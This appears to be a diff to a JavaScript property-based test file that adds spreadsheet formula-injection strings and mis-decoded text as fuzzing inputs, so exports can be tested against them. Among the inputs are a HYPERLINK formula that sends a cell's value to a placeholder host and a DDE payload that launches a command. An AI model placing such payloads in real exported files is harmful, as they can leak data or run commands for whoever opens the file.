@@ -63,7 +63,27 @@ const INJECTION = [
   'x'.repeat(201),
 ];
 
+/**
+ * Text a spreadsheet runs as a formula when an export writes it as given, and text as it arrives
+ * misread (cedilla letters, UTF-8 read as a code page, lost letters): docs/security.md, formula
+ * injection and careless input.
+ */
+const FORMULA = [
+  '=1+1',
+  '=HYPERLINK("http://x.example/?"&A1,"Click")',
+  "+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(1,1)',
+  '\t=1+1',
+  '\r=1+1',
+  ' =1+1',
+  '\uFF1D1+1',
+];
+const MISREAD = ['Ştefan Ţepeş', 'È™tefan', 'Ä‚Ã®', '\uFFFD', '?tefan', 'S\u0327T\u0327', '\uFEFFnume'];
+
 const edgePiece = fc.constantFrom(
+  ...FORMULA,
+  ...MISREAD,
   ...LONE_SURROGATES,
   ...INVISIBLE,
   ...DIRECTIONAL,
